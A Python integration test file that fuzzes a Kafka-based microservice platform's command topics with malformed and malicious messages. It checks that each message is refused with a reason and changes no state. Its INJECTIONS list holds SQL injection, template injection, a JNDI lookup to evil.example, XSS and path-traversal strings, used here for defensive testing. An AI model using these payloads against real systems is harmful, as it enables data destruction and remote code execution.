"""Hostile input: malformed and malicious messages on every command topic are refused, each with a clear
reason, and change nothing; no service falls over; valid traffic goes on.

Hypothesis generates the messages (a few hundred per run, reproducible: ``derandomize``): bytes that
are not JSON, JSON that is not an object, broken envelopes (missing or mistyped fields, a bad principal,
control characters), unknown or foreign ``type``s, payloads with wrong types, missing or unknown fields,
negative, zero and huge quantities, 10,000 lines, SQL and template injection, very long and non-ASCII
strings, NUL bytes and control characters in ids and free text, and commands that are well formed but
name sellers, SKUs and orders nobody knows, with duplicate line ids, or come from the wrong principal -
under random keys, NUL bytes and invalid UTF-8 included. Then, by hand: a message of 600 KB, one over
the broker's 1 MB limit, and a legitimate listing whose title *is* an injection string.

Because the services are real processes, the messages are generated first and published together;
each one's outcome is then found by correlation: a dead letter names the record's partition and
offset, a ``CommandRejected`` the command's event id. Every message must end as exactly one of them,
with the reason the generator expected, and nothing else may come of it (no other event, no row in
any service's tables but the inbox and outbox).
"""

from __future__ import annotations

import asyncio
import json
import uuid
from collections import Counter
from dataclasses import dataclass, field
from typing import Any

import orjson
import pytest
from aiokafka.errors import MessageSizeTooLargeError
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from devstack.client import PlatformClient
from devstack.scenario import Scenario
from devstack.stack import SERVICES, Stack
from shared.contract.catalog import RegisterSeller, UpsertListing
from shared.contract.topics import ALL_TOPICS, TOPICS_BY_NAME
from tests.faults import harness as h

pytestmark = [pytest.mark.integration, pytest.mark.faults]

#: every command topic of the contract, and where its service answers a refusal (its own events topic)
COMMAND_TOPICS = tuple(t.name for t in ALL_TOPICS if t.name.endswith(".commands"))
REJECTIONS = {name: name.removesuffix(".commands") + ".events" for name in COMMAND_TOPICS}

INJECTIONS = [
    "'; DROP TABLE listings; --", "\" OR 1=1 --", "Robert'); DROP TABLE orders;--", "1; SELECT pg_sleep(10)",
    "{{7*7}}", "{% for x in range(99999999) %}x{% endfor %}", "${jndi:ldap://evil.example/a}", "#{7*7}",
    "<script>alert(1)</script>", "../../../../etc/passwd", "%s%s%s%n", "\u202egnp.exe", "ʇsǝʇ ǝpᴉsdn",
    "Grüße aus Köln", "日本語のタイトル", "💥" * 40, "ß" * 300, "x" * 10_000, "",
]
CONTROL = ["\x00", "a\x00b", "\x1b[31mred\x1b[0m", "bell\x07", "\x7f", "nul at the end\x00", "\x85next line"]
SAFE_TEXT = st.sampled_from([s for s in INJECTIONS if s and len(s) <= 200])

#: a valid payload per command type; the generators mutate these
TEMPLATES: dict[str, dict[str, Any]] = {
    "RegisterSeller": {"seller_id": "S", "region": "US", "backorder_eligible": True},
    "SetSellerEligibility": {"seller_id": "S", "backorder_eligible": True},
    "UpsertListing": {"seller_id": "S", "listing_id": "L", "category": "home", "title": "Lamp", "sku_ids": ["K"]},
    "ActivateBackorder": {"seller_id": "S", "sku_id": "K", "handling_days": 5,
                          "backorder_stock": [{"warehouse_id": "wh-1", "qty": 10}]},
    "DeactivateBackorder": {"seller_id": "S", "sku_id": "K"},
    "SetListingType": {"seller_id": "S", "sku_id": "K", "listing_type": "pre_order"},
    "SetStock": {"sku_id": "K", "warehouse_id": "wh-1", "on_hand": 5},
    "ReceiveStock": {"receipt_id": "R", "sku_id": "K", "warehouse_id": "wh-1", "qty": 5},
    "SetStockPolicy": {"sku_id": "K", "safety_stock": 0},
    "PrioritizeBackorder": {"sku_id": "K", "order_id": "O", "priority": 10},
    "PlaceOrder": {"order_id": "O", "buyer_id": "B", "buyer_email": "b@example.com", "region": "US",
                   "lines": [{"line_id": "l1", "sku_id": "K", "qty": 1}]},
    "ShipLines": {"order_id": "O", "line_ids": ["l1"], "tracking_number": "T-1"},
    "CancelLines": {"order_id": "O", "line_ids": ["l1"], "reason": "buyer_request"},
    "RequestReplacement": {"order_id": "O", "line_id": "l1"},
    "ConfirmDelivery": {"order_id": "O", "tracking_number": "T-1"},
    "MarkNotificationsRead": {"buyer_id": "B", "notification_ids": ["0b6f3c52-5d0e-5c59-9d0a-4c3e8f1a2b7d"]},
}
TOPIC_OF = {t: name for name in COMMAND_TOPICS for t in TEMPLATES if TOPICS_BY_NAME[name].payload_model(t)}
KEY_FIELD = {name: TOPICS_BY_NAME[name].key_field for name in COMMAND_TOPICS}
#: template fields a command may leave out (a payload without them is valid)
OPTIONAL = ("timezone", "safety_stock", "reason", "locale", "notification_ids")
ID_FIELDS = ("seller_id", "listing_id", "sku_id", "order_id", "buyer_id", "receipt_id", "warehouse_id", "category")
FREE_TEXT = {"title": 200, "tracking_number": 64, "reason": 200}
BAD_NUMBERS = {"qty": [-5, 0, 10**7, 10**30], "on_hand": [-1, 10**9], "handling_days": [-10**6, 10**6],
               "priority": [-1, 1001, 2**63], "safety_stock": [-3]}
WRONG_TYPES = st.one_of(st.lists(st.integers(), min_size=1, max_size=3),
                        st.dictionaries(st.text(max_size=5), st.integers(), min_size=1, max_size=2))


@dataclass
class Hostile:
    topic: str
    value: bytes
    key: bytes | None
    outcome: str  # "dlq" or "rejected"
    reasons: frozenset[str]
    label: str
    event_id: str | None = None

    @property
    def category(self) -> str:
        return self.label.split(":")[0].split(" (")[0]


@dataclass
class Published:
    message: Hostile
    partition: int
    offset: int
    outcomes: list[tuple[str, str, str]] = field(default_factory=list)  # (kind, reason, detail)


def ghost(prefix: str) -> str:
    return f"{prefix}-ghost-{uuid.uuid4().hex[:10]}"


def envelope(message_type: str, payload: Any, principal: dict[str, Any] | None = None, **fields: Any) -> dict[str, Any]:
    env = {"event_id": str(uuid.uuid4()), "type": message_type, "producer": "hostile-test",
           "correlation_id": str(uuid.uuid4()), "payload": payload}
    if principal is not None:
        env["principal"] = principal
    env.update(fields)
    return env


def unknown_ids(payload: dict[str, Any]) -> dict[str, Any]:
    """The template with every id replaced by one no service knows."""
    out = dict(payload)
    for name in ("seller_id", "listing_id", "sku_id", "order_id", "receipt_id"):
        if name in out:
            out[name] = ghost(name.split("_")[0])
    if "sku_ids" in out:
        out["sku_ids"] = [ghost("sku")]
    if "lines" in out:
        out["lines"] = [dict(line, sku_id=ghost("sku")) for line in out["lines"]]
    return out


def message(topic: str, env: Any, key: bytes | None, outcome: str, reasons: set[str], label: str) -> Hostile:
    value = env if isinstance(env, bytes) else json.dumps(env, ensure_ascii=False).encode("utf-8", "surrogatepass")
    event_id = env.get("event_id") if isinstance(env, dict) else None
    return Hostile(topic, value, key, outcome, frozenset(reasons), label, str(event_id) if event_id else None)


KEYS = st.one_of(st.none(), st.binary(max_size=40), st.just(b"\x00\x00"), st.just(b"\xff\xfe invalid utf-8"),
                 st.text(max_size=30).map(str.encode))


@st.composite
def not_json(draw: st.DrawFn) -> Hostile:
    topic = draw(st.sampled_from(COMMAND_TOPICS))
    kind = draw(st.sampled_from(["bytes", "truncated", "nul"]))
    if kind == "bytes":
        value = draw(st.binary(min_size=0, max_size=300))
    elif kind == "truncated":
        whole = orjson.dumps(envelope("PlaceOrder", TEMPLATES["PlaceOrder"]))
        value = whole[: draw(st.integers(0, len(whole) - 1))]
    else:
        value = b"\x00" * draw(st.integers(1, 50))
    try:
        orjson.loads(value)
    except orjson.JSONDecodeError:
        return message(topic, value, draw(KEYS), "dlq", {"not_json"}, f"not json ({kind})")
    return message(topic, value, draw(KEYS), "dlq", {"invalid_envelope"}, f"not an envelope ({kind})")


@st.composite
def not_an_object(draw: st.DrawFn) -> Hostile:
    topic = draw(st.sampled_from(COMMAND_TOPICS))
    value = draw(st.one_of(st.integers(), st.lists(st.integers(), max_size=5), st.text(max_size=50), st.booleans(),
                           st.none(), st.floats(allow_nan=False, allow_infinity=False)))  # Infinity is not JSON
    return message(topic, json.dumps(value).encode(), draw(KEYS), "dlq", {"invalid_envelope"},
                   f"not an envelope (json {type(value).__name__})")


@st.composite
def broken_envelope(draw: st.DrawFn) -> Hostile:
    message_type = draw(st.sampled_from(sorted(TEMPLATES)))
    env = envelope(message_type, unknown_ids(TEMPLATES[message_type]))
    kind = draw(st.sampled_from(["missing", "event_id", "version", "occurred_at", "extra", "principal", "type",
                                 "producer"]))
    if kind == "missing":
        del env[draw(st.sampled_from(["type", "producer", "payload"]))]
    elif kind == "event_id":
        env["event_id"] = draw(st.one_of(st.text(max_size=20), st.integers(), st.just("'; DROP TABLE inbox; --")))
    elif kind == "version":
        env["version"] = draw(st.sampled_from([0, -1, "one", [1]]))
    elif kind == "occurred_at":
        env["occurred_at"] = draw(st.sampled_from(["yesterday", "2026-13-45T99:00:00", [2026]]))
    elif kind == "extra":
        env[draw(st.sampled_from(["admin", "__proto__", "constructor", "$where"]))] = True
    elif kind == "principal":
        env["principal"] = draw(st.sampled_from([{"kind": 1, "id": "x"}, {"kind": "seller", "id": ""},
                                                 {"kind": "seller", "id": "a\x00b"}, {"kind": "seller"},
                                                 {"kind": "seller", "id": "x", "role": "admin"}, "seller:x",
                                                 {"kind": "seller", "id": "x" * 201}]))
    elif kind == "type":
        env["type"] = draw(st.sampled_from(["", "x" * 101, "Place\x00Order", 42, None]))
    else:
        env["producer"] = draw(st.sampled_from(["", "p" * 101, "\x1b[2J", None]))
    return message(TOPIC_OF[message_type], env, draw(KEYS), "dlq", {"invalid_envelope"}, f"envelope: {kind}")


@st.composite
def unknown_type(draw: st.DrawFn) -> Hostile:
    topic = draw(st.sampled_from(COMMAND_TOPICS))
    known = {m.message_type for m in TOPICS_BY_NAME[topic].messages}
    message_type = draw(st.one_of(
        st.sampled_from(["OrderAccepted", "StockAllocated", "DeleteEverything", "CommandRejected", "placeorder",
                         "PlaceOrder ", "__class__", *[t for t in TEMPLATES if t not in known]]),
        st.text(alphabet=st.characters(codec="ascii", categories=["L", "N"]), min_size=1, max_size=30),
    ).filter(lambda t: t not in known))
    payload = unknown_ids(TEMPLATES.get(message_type, TEMPLATES["PlaceOrder"]))
    return message(topic, envelope(message_type, payload), draw(KEYS), "dlq", {"unknown_type"},
                   f"unknown type: {message_type}")


def _supports(kind: str, payload: dict[str, Any]) -> bool:
    return {"bad_number": any(f in BAD_NUMBERS for f in payload), "bad_id": any(f in ID_FIELDS for f in payload),
            "control_text": any(f in FREE_TEXT for f in payload), "long_text": any(f in FREE_TEXT for f in payload),
            "many_lines": "lines" in payload, "bad_line": "lines" in payload,
            "many_skus": "sku_ids" in payload}.get(kind, True)


PAYLOAD_KINDS = ["missing", "unknown_field", "wrong_type", "bad_number", "bad_id", "control_text", "long_text",
                 "many_lines", "bad_line", "many_skus"]


@st.composite
def invalid_payload(draw: st.DrawFn) -> Hostile:
    kind = draw(st.sampled_from(PAYLOAD_KINDS))
    message_type = draw(st.sampled_from([t for t in sorted(TEMPLATES) if _supports(kind, TEMPLATES[t])]))
    payload = unknown_ids(TEMPLATES[message_type])
    present = sorted(payload)
    if kind == "missing":
        required = [f for f in present if f not in OPTIONAL]
        del payload[draw(st.sampled_from(required))]
    elif kind == "unknown_field":
        payload[draw(st.sampled_from(["is_admin", "price", "__proto__", "sql"]))] = draw(SAFE_TEXT)
    elif kind == "wrong_type":
        name = draw(st.sampled_from(present))
        payload[name] = draw(st.integers() if isinstance(payload[name], list) else WRONG_TYPES)
    elif kind == "bad_number":
        name = draw(st.sampled_from([f for f in present if f in BAD_NUMBERS]))
        payload[name] = draw(st.sampled_from(BAD_NUMBERS[name]))
    elif kind == "bad_id":
        name = draw(st.sampled_from([f for f in present if f in ID_FIELDS]))
        payload[name] = draw(st.sampled_from([*INJECTIONS[:-1], *CONTROL, "x" * 65, "-starts-with-dash"]))
    elif kind == "control_text":
        name = draw(st.sampled_from([f for f in present if f in FREE_TEXT]))
        payload[name] = draw(SAFE_TEXT) + draw(st.sampled_from(CONTROL))
    elif kind == "long_text":
        name = draw(st.sampled_from([f for f in present if f in FREE_TEXT]))
        payload[name] = draw(st.sampled_from(["x", "ü", "💥"])) * (FREE_TEXT[name] + draw(st.integers(1, 5000)))
    elif kind == "many_lines":
        payload["lines"] = [{"line_id": f"l{i}", "sku_id": "K", "qty": 1} for i in range(draw(st.sampled_from([101,
                                                                                                            10_000])))]
    elif kind == "bad_line":
        line = dict(payload["lines"][0])
        line[draw(st.sampled_from(["qty", "sku_id", "line_id"]))] = draw(st.sampled_from([0, -1, "", "'; --", None]))
        payload["lines"] = [line]
    else:
        payload["sku_ids"] = [f"sku-{i}" for i in range(501)]
    return message(TOPIC_OF[message_type], envelope(message_type, payload), draw(KEYS), "dlq", {"invalid_payload"},
                   f"invalid payload: {message_type} {kind}")


@st.composite
def refused_command(draw: st.DrawFn) -> Hostile:
    """Well-formed commands that must be refused: they name what does not exist, or come from the wrong
    principal. Free text carries injection strings (valid text: the refusal must come from the rules)."""
    message_type = draw(st.sampled_from(sorted(TEMPLATES)))
    payload = unknown_ids(TEMPLATES[message_type])
    for name, limit in FREE_TEXT.items():
        if name in payload:
            payload[name] = draw(SAFE_TEXT.filter(lambda s, n=limit: 0 < len(s) <= n))
    principal: dict[str, Any] | None = None
    topic = TOPIC_OF[message_type]
    if message_type == "RegisterSeller":
        zone = draw(st.sampled_from([*INJECTIONS[:4], "Mars/Olympus_Mons", "UTC+25", "Europe/Atlantis"]))
        payload["timezone"] = zone[:64]
        reasons = {"invalid_timezone"}
        if draw(st.booleans()):
            principal, reasons = {"kind": "seller", "id": ghost("seller")}, {"not_authorized"}
    elif topic == "catalog.commands":
        reasons = {"unknown_seller"}
    elif topic == "inventory.commands":
        principal, reasons = {"kind": "seller", "id": ghost("seller")}, {"unknown_sku"}
    elif message_type == "PlaceOrder":
        variant = draw(st.sampled_from(["duplicate_lines", "seller", "other_buyer"]))
        if variant == "duplicate_lines":
            payload["lines"] = [dict(payload["lines"][0]), dict(payload["lines"][0], qty=2)]
            reasons = {"duplicate_line"}
        elif variant == "seller":
            principal, reasons = {"kind": "seller", "id": ghost("seller")}, {"forbidden"}
        else:
            principal, reasons = {"kind": "buyer", "id": ghost("buyer")}, {"not_owner"}
    elif message_type == "MarkNotificationsRead":
        payload["notification_ids"] = [str(uuid.uuid4())]
        variant = draw(st.sampled_from(["unknown_notification", "forbidden", "not_owner"]))
        reasons = {variant}
        if variant == "forbidden":
            principal = {"kind": "seller", "id": ghost("seller")}
        elif variant == "not_owner":
            principal = {"kind": "buyer", "id": ghost("buyer")}
    else:
        reasons = {"unknown_order"}
    key = draw(st.one_of(st.just(str(payload.get(KEY_FIELD[topic], "")).encode()), KEYS))
    return message(topic, envelope(message_type, payload, principal), key, "rejected", reasons,
                   f"refused: {message_type} {sorted(reasons)[0]}")


HOSTILE = st.one_of(not_json(), not_an_object(), broken_envelope(), unknown_type(), invalid_payload(),
                    invalid_payload(), refused_command(), refused_command())


def generate(count: int) -> list[Hostile]:
    """``count`` hostile messages, drawn by Hypothesis (reproducibly)."""
    drawn: list[Hostile] = []

    @settings(max_examples=count, derandomize=True, database=None, deadline=None,
              suppress_health_check=list(HealthCheck))
    @given(HOSTILE)
    def collect(item: Hostile) -> None:
        drawn.append(item)

    collect()
    return drawn


# ---------------------------------------------------------------------- state of every service


async def fingerprint(stack: Stack) -> dict[str, tuple[int, str]]:
    """Every table of every service but the inbox and the outbox: row count and a digest of its rows."""
    found: dict[str, tuple[int, str]] = {}
    for service in SERVICES:
        tables = await h.query(stack, service, """
            SELECT tablename FROM pg_tables WHERE schemaname = 'public'
            AND tablename NOT IN ('inbox', 'outbox', 'schema_migrations') ORDER BY tablename""")
        for table in (r["tablename"] for r in tables):
            [row] = await h.query(stack, service, f"""
                SELECT count(*) AS n, coalesce(md5(string_agg(t::text, '|' ORDER BY t::text)), '') AS digest
                FROM "{table}" t""")
            found[f"{service}.{table}"] = (row["n"], row["digest"])
    return found


async def quiet_fingerprint(stack: Stack) -> dict[str, tuple[int, str]]:
    """A fingerprint that no longer changes: what earlier tests set in motion has settled."""
    last: dict[str, tuple[int, str]] = {}

    async def settled() -> dict[str, tuple[int, str]] | None:
        nonlocal last
        now = await fingerprint(stack)
        same = now == last
        last = now
        return now if same else None

    result = await h.poll(settled, "the services' state to settle", 60.0, every_s=0.5)
    assert result is not None
    return result


def outcomes(client: PlatformClient, sent: list[Published]) -> None:
    by_position = {(p.message.topic, p.partition, p.offset): p for p in sent}
    by_event = {p.message.event_id: p for p in sent if p.message.event_id}
    for p in sent:
        p.outcomes.clear()
    for o in client.observed:
        if o.topic.endswith(".dlq"):
            v = o.value
            target = by_position.get((v.get("original_topic"), v.get("partition"), v.get("offset")))
            if target is not None:
                target.outcomes.append(("dlq", str(v.get("reason")), str(v.get("error"))))
        elif o.type == "CommandRejected" and o.payload.get("command_id") in by_event:
            target = by_event[o.payload["command_id"]]
            target.outcomes.append(("rejected", str(o.payload.get("reason")), str(o.payload.get("message"))))


def caused_by_any(client: PlatformClient, sent: list[Published]) -> list[tuple[str, str]]:
    ids = {p.message.event_id for p in sent if p.message.event_id}
    return [(o.topic, o.type) for o in client.observed
            if o.value.get("causation_id") in ids and o.type != "CommandRejected"]


async def test_hostile_input_is_refused_with_a_reason_and_changes_nothing(platform: Stack,
                                                                          platform_client: PlatformClient) -> None:
    stack, client = platform, platform_client
    messages = generate(400)
    categories = {m.category for m in messages}
    assert categories == {"not json", "not an envelope", "envelope", "unknown type", "invalid payload", "refused"}
    assert {m.label.rsplit(" ", 1)[-1] for m in messages if m.category == "invalid payload"} == set(PAYLOAD_KINDS)
    before = await quiet_fingerprint(stack)

    sent: list[Published] = []
    for m in messages:
        meta = await client.send_raw(m.topic, m.value, key=m.key)
        sent.append(Published(m, meta.partition, meta.offset))

    async def all_answered() -> bool:
        outcomes(client, sent)
        return all(p.outcomes for p in sent)

    try:
        await h.poll(all_answered, "an outcome for every hostile message", 90.0, every_s=0.5)
    except AssertionError:
        silent = [p.message.label for p in sent if not p.outcomes]
        raise AssertionError(f"{len(silent)} messages without an outcome, e.g. {silent[:10]}") from None
    after = await quiet_fingerprint(stack)
    outcomes(client, sent)
    wrong = [(p.message.label, p.message.outcome, sorted(p.message.reasons), p.outcomes) for p in sent
             if len(p.outcomes) != 1 or p.outcomes[0][0] != p.message.outcome
             or p.outcomes[0][1] not in p.message.reasons]
    assert not wrong, wrong[:10]
    assert all(detail for p in sent for _, _, detail in p.outcomes), "every refusal says why"
    assert caused_by_any(client, sent) == [], "a refused command caused something"
    assert after == before, {t: (before.get(t), after.get(t)) for t in after if before.get(t) != after[t]}

    for service in SERVICES:
        assert stack.services[(service, 0)].proc.poll() is None, f"{service} died"
        assert await h.readyz(stack, service) == 200
    kinds: dict[str, int] = {}
    for p in sent:
        kinds[p.outcomes[0][1]] = kinds.get(p.outcomes[0][1], 0) + 1
    print(f"\nhostile: {len(sent)} messages ({dict(Counter(m.category for m in messages))}) on "
          f"{len(COMMAND_TOPICS)} command topics, each refused once: "
          f"{dict(sorted(kinds.items()))}; state unchanged in {len(before)} tables")


async def test_oversized_messages_are_dead_lettered_or_refused_by_the_broker(platform: Stack,
                                                                             platform_client: PlatformClient) -> None:
    client = platform_client
    big = envelope("UpsertListing", dict(unknown_ids(TEMPLATES["UpsertListing"]), title="x" * 600_000))
    meta = await client.send_raw("catalog.commands", orjson.dumps(big), key=b"oversized")
    [letter] = await client.wait_for(lambda o: o.topic == "catalog.commands.dlq" and o.value.get("offset") ==
                                     meta.offset and o.value.get("partition") == meta.partition, timeout=30)
    assert letter.value["reason"] == "invalid_payload" and "(original truncated)" in letter.value["error"]
    assert len(letter.value["original_b64"]) < 400_000  # at most 256 KiB of the original, base64
    # over the broker's limit: the producer refuses it, nothing reaches the platform
    huge = envelope("UpsertListing", dict(unknown_ids(TEMPLATES["UpsertListing"]), title="x" * 1_100_000))
    with pytest.raises(MessageSizeTooLargeError):
        await client.send_raw("catalog.commands", orjson.dumps(huge), key=b"huge")


async def test_injection_strings_in_free_text_are_stored_verbatim_not_run(platform: Stack,
                                                                         platform_client: PlatformClient) -> None:
    """The counterpart of the refusals: a legitimate listing may be titled with an injection string. It is
    data: stored and returned as sent, never executed or rendered."""
    stack, client = platform, platform_client
    seller = ghost("seller").replace("ghost", "real")
    await client.send(RegisterSeller(seller_id=seller, region="US", backorder_eligible=True))
    titles = [s for s in INJECTIONS if 0 < len(s) <= 200]
    for n, title in enumerate(titles):
        await client.send(UpsertListing(seller_id=seller, listing_id=f"{seller}-l{n}", category="home", title=title,
                                        sku_ids=[f"{seller}-k{n}"]))
    await client.wait_type("catalog.events", "ListingUpserted", count=len(titles), seller_id=seller, timeout=30)
    _, listings = await h.http_json(f"{stack.services[('catalog', 0)].url}/sellers/{seller}/listings")
    assert sorted(item["title"] for item in listings) == sorted(titles)
    [tables] = await h.query(stack, "catalog", "SELECT count(*) AS n FROM pg_tables WHERE schemaname = 'public' "
                                               "AND tablename IN ('listings', 'sellers', 'skus')")
    assert tables["n"] == 3  # DROP TABLE went nowhere


async def test_valid_traffic_flows_after_the_hostile_input(platform: Stack, platform_client: PlatformClient) -> None:
    result = await Scenario(platform_client, platform.mail_dir, timeout=30).run()
    assert result.ok, result.failure
    assert await asyncio.gather(*(h.readyz(platform, s) for s in SERVICES)) == [200] * len(SERVICES)
